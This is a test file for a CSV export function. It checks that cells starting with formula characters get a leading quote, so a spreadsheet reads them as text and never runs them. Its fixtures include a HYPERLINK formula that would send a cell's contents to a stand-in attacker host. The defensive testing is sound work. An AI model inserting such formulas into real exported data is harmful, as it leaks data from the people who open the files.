import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeCsvTable } from './csv-table.js';

describe('writeCsvTable', () => {
  it('neutralises text a spreadsheet would run as a formula: a quote in front, and the cell quoted', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
      '@SUM(1)',
      '+34 600 000 000',
      '-2+3',
      '\tTab',
      '\rReturn',
      '＝1+1',
    ];
    const text = writeCsvTable([['label'], ...hostile.map((label) => [label])]);
    const lines = text.split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`);
    expect(lines[2]).toBe(`"'@SUM(1)"`);
    expect(lines[3]).toBe(`"'+34 600 000 000"`);
    expect(lines[4]).toBe(`"'-2+3"`);
    // Read back, each cell is the text with the quote in front, never a formula.
    const cells = (parse(text, { from_line: 2 }) as string[][]).map(([cell]) => cell);
    expect(cells).toEqual(hostile.map((label) => `'${label}`));
  });

  it('writes numbers as numbers, negative ones included, and leaves ordinary text alone', () => {
    const text = writeCsvTable([
      ['id', 'label', 'ei_index', 'weight'],
      ['n0', 'Ana Ruiz', -0.5, 2],
      ['n1', 'Eva, "la de Alba"', 0.25, null],
      ['n2', ' padded ', -3, 1e-7],
    ]);
    expect(text).toBe(
      'id,label,ei_index,weight\r\nn0,Ana Ruiz,-0.5,2\r\nn1,"Eva, ""la de Alba""",0.25,\r\nn2," padded ",-3,1e-7\r\n',
    );
  });

  it('quotes a cell holding a line break of any kind, so the row reads back whole', () => {
    const text = writeCsvTable([
      ['a', 'b'],
      ['one\ntwo', 'three\rfour'],
    ]);
    expect(text).toBe('a,b\r\n"one\ntwo","three\rfour"\r\n');
    expect(parse(text)).toEqual([
      ['a', 'b'],
      ['one\ntwo', 'three\rfour'],
    ]);
  });

  it('neutralises text that only looks like a negative number: it could be any cell a person typed', () => {
    expect(writeCsvTable([['-5', -5]])).toBe(`"'-5",-5\r\n`);
  });
});
